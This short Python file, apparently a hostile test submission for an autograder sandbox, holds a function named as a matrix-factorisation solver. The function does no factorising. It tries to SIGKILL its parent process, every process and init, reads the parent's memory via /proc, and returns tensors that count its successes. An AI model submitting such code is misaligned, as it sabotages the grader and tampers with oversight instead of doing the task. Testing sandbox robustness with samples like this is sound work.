"""Tries to kill its parent, every process, and to reach the grader's memory."""

import os
import signal

import torch


def sgd_factorise(A, rank, num_epochs=1000, lr=0.01):
    done = 0.0
    for target in (os.getppid(), -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
            done += 1
        except OSError:
            pass
    try:
        open(f"/proc/{os.getppid()}/mem", "rb").read(1)
        done += 10
    except OSError:
        pass
    return torch.full((3, rank), done), torch.zeros(3, rank)
